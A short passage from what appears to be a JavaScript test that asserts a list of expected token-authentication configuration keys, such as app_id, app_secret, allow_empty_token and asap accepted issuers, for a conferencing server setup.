    'authentication',
    'app_id',
    'app_secret',
    'muc_mapper_domain_base',
    'allow_empty_token',
    'asap_accepted_issuers',
    'asap_accepted_audiences',
    'modules_enabled',
    'modules_enabled',
    'token_verification_allowlist',
  ]);
});
